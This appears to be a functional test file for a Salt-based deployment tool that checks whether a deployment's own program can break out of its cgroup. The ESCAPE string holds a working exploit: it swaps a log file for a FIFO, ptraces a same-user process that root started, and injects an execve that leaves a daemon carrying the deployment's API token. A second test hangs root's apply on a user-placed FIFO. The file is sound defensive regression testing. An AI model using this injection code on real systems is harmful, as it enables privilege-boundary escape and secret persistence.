"""
Attacks on the deployment's cgroup, from the deployment's side: its programs
run in the deployment's cgroup, and try to reach what its user runs
elsewhere, or to hold root up in the user's tree. Each test is one attack, run for real as the deployment's user;
it passes when the attack fails.
"""

import contextlib
import fcntl
import json
import os
import subprocess
import textwrap
import uuid
from pathlib import Path

from salt.exceptions import CommandExecutionError

from tests.conftest import gone, wait_for
from tests.functional.conftest import tiny_app
from tests.functional.test_attacks import as_user, timed_in_thread

REMOVED = "saltfleet-deployment-tiny-removed"

# The deployment's program: it turns its own log into a FIFO (the user's file,
# in the user's log folder), waits for a process of its user that is NOT in
# its cgroup (root's `tail` of deployment.logs blocks opening the FIFO),
# attaches to it with ptrace (same uid, dumpable: the kernel allows it) and
# makes it exec a shell that leaves a daemon behind, holding the deployment's
# secret. That daemon lives in whatever cgroup root's process was in.
ESCAPE = r"""
import ctypes, os, struct, sys, time
log, ready, secret_name = sys.argv[1], sys.argv[2], sys.argv[3]
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, GETREGS, SETREGS, PEEK, POKE = 16, 17, 12, 13, 2, 5
RIP, RSP, RAX, ORIG_RAX, RDI, RSI, RDX = 16, 19, 10, 15, 14, 13, 12

def mine():
    return [l for l in open("/proc/self/cgroup").read().splitlines() if l.startswith("0::")][0]

def outside():
    me = os.getuid()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat("/proc/" + pid).st_uid != me:
                continue
            cg = [l for l in open("/proc/%s/cgroup" % pid).read().splitlines() if l.startswith("0::")][0]
            comm = open("/proc/%s/comm" % pid).read().strip()
        except (OSError, IndexError):
            continue
        if cg != mine() and comm == "tail":
            return int(pid)
    return None

def poke(pid, addr, data):
    data += b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        word = struct.unpack("<Q", data[i:i + 8])[0]
        if libc.ptrace(POKE, pid, addr + i, word) != 0:
            raise OSError(ctypes.get_errno(), "poke")

def inject(pid, argv, env):
    if libc.ptrace(ATTACH, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "attach")
    os.waitpid(pid, 0x40000000)
    regs = (ctypes.c_ulong * 27)()
    libc.ptrace(GETREGS, pid, None, ctypes.addressof(regs))
    base = [int(l.split("-")[0], 16) for l in open("/proc/%d/maps" % pid) if l.rstrip().endswith("[stack]")][0] + 256
    blob, ptrs = b"", []
    for s in [*argv, *env]:
        ptrs.append(base + len(blob))
        blob += s.encode() + b"\0"
    blob += b"\0" * (-len(blob) % 8)
    arr = base + len(blob)
    args = ptrs[: len(argv)] + [0]
    envs = ptrs[len(argv):] + [0]
    blob += struct.pack("<%dQ" % len(args), *args)
    envp = base + len(blob)
    blob += struct.pack("<%dQ" % len(envs), *envs)
    poke(pid, base, blob)
    # Stopped in a system call: the `syscall` instruction is just before rip.
    ctypes.set_errno(0)
    word = libc.ptrace(PEEK, pid, regs[RIP] - 2, None) & 0xFFFF
    if word != 0x050F:
        poke(pid, regs[RIP], b"\x0f\x05")
    else:
        regs[RIP] -= 2
    regs[RAX], regs[ORIG_RAX] = 59, (1 << 64) - 1
    regs[RDI], regs[RSI], regs[RDX] = ptrs[0], arr, envp
    libc.ptrace(SETREGS, pid, None, ctypes.addressof(regs))
    libc.ptrace(DETACH, pid, None, None)

os.rename(log, log + ".real")
os.mkfifo(log, 0o600)
open(ready, "w").write(mine())
while True:
    pid = outside()
    if pid:
        break
    time.sleep(0.02)
daemon = "setsid -f /bin/sleep 7777 </dev/null >/dev/null 2>&1; exit 0"
inject(pid, ["/bin/sh", "-c", daemon], ["%s=%s" % (secret_name, os.environ[secret_name])])
open(ready + ".done", "w").write(str(pid))
time.sleep(3600)
"""


def holding(marker):
    """Pids of processes whose environment holds ``marker``."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                with open(f"/proc/{entry.name}/environ", "rb") as f:
                    if marker.encode() in f.read():
                        found.append(int(entry.name))
    return found


def test_a_program_cannot_ptrace_a_process_root_runs_as_its_user_out_of_its_cgroup(host, tiny, out):
    """
    Root runs some commands as the deployment's user without the cgroup
    (deployment.logs' tail, supervisorctl, and makedirs/relink/write/remove of
    an apply): the deployment's program, as that user, ptraces one and leaves a
    daemon outside the cgroup, with the deployment's secret, that removal
    never kills.
    """
    marker = f"tok-{uuid.uuid4().hex[:12]}"
    deployment = tiny_app(tiny, out, env={"TINYAPP_OUT": str(out), "API_TOKEN": marker})
    script = out / "escape.py"
    script.write_text(textwrap.dedent(ESCAPE))
    p = host.paths("tiny")
    log = host.sf.saltfleet_paths.log(p, "a", "1")
    ready = out / "ready"
    deployment["programs"]["a"]["command"] = (
        f"sh -c 'python {script} {log} {ready} API_TOKEN >>{out}/escape.log 2>&1 & exec python app.py a'"
    )
    host.apply(host.pillar({"tiny": deployment}))
    wait_for(ready.exists, 30, "the program made its log a FIFO", logs=[out / "escape.log"])
    left, seen = [], ""
    try:
        # An operator reads the program's log (a FIFO no one writes: the read ends at its deadline).
        with contextlib.suppress(CommandExecutionError):
            host.loaders.modules.deployment.logs("tiny", "a")
        removed = host.apply(host.pillar({}))[REMOVED]
        left = [pid for pid in holding(marker) if not gone(pid)]
        if left:
            ps = ["ps", "-o", "pid,user,stat,args", "-p", ",".join(map(str, left))]
            seen = subprocess.run(ps, capture_output=True, text=True, check=False).stdout
            seen += "".join(Path(f"/proc/{pid}/cgroup").read_text().splitlines()[-1] + "\n" for pid in left)
    finally:
        for pid in holding(marker):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, 9)
    assert removed["result"] is True, removed
    assert not left, f"processes of the removed deployment still run with its env, out of its cgroup:\n{seen}"


def test_the_user_cannot_hang_root_on_a_fifo_at_a_release_marker(host, tiny, out):
    """
    The user takes the serving release's complete marker away and puts a FIFO
    at its failed marker (both in the user's checkout): the next apply reads
    the failed marker as root, open() blocks for ever with the deployment's
    lock held, and removal can no longer take it.
    """
    host.apply(host.pillar({"tiny": tiny_app(tiny, out)}))
    p = host.paths("tiny")
    manifest = json.loads(p["manifest"].read_text())
    marks = host.sf.saltfleet_paths.markers(host.sf.saltfleet_paths.release(p, manifest["release"]))
    script = 'rm -f -- "$1" && mkfifo -m 600 -- "$2"'
    as_user(host.user, "sh", "-c", script, "sh", str(marks["complete"]), str(marks["failed"]))
    thread, box, took = timed_in_thread(lambda: host.apply(host.pillar({"tiny": tiny_app(tiny, out)})), 60)
    hung, locked = thread.is_alive(), False
    if hung:
        with open(p["lock"], "rb") as lock:
            try:
                fcntl.flock(lock, fcntl.LOCK_SH | fcntl.LOCK_NB)
            except BlockingIOError:
                locked = True
        # What the user alone can do at any time: let root's open() go on.
        as_user(host.user, "sh", "-c", 'printf x > "$1"', "sh", str(marks["failed"]))
        thread.join(60)
    assert not hung, (
        f"the apply still waits on the user's FIFO {marks['failed']} after {took:.0f} s (the lock held: {locked})"
    )
    assert not isinstance(box.get("result"), Exception), box
